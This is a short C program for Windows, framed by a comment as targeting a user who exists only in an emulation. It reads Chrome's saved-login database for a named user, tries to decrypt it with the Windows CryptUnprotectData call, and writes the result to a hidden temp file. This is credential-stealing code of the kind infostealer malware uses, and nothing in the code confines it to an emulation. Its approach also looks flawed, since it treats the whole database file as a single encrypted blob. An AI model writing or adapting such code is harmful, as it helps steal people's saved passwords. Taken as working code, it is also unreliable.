/* Reads the passwords of one user's browser, who exists in the emulation only. libs: -lcrypt32 */
#include <windows.h>
#include <wincrypt.h>
#include <stdio.h>
int main(void) {
    static char data[4096];
    DATA_BLOB in, out;
    FILE *file = fopen("C:\\Users\\anna\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data", "rb");
    if (!file) return 1;
    in.cbData = fread(data, 1, sizeof data, file);
    in.pbData = (BYTE *)data;
    fclose(file);
    if (CryptUnprotectData(&in, NULL, NULL, NULL, NULL, 0, &out)) {
        FILE *kept = fopen("C:\\Users\\anna\\AppData\\Local\\Temp\\p.txt", "wb");
        if (kept) { fwrite(out.pbData, 1, out.cbData, kept); fclose(kept); }
    }
    return 0;
}
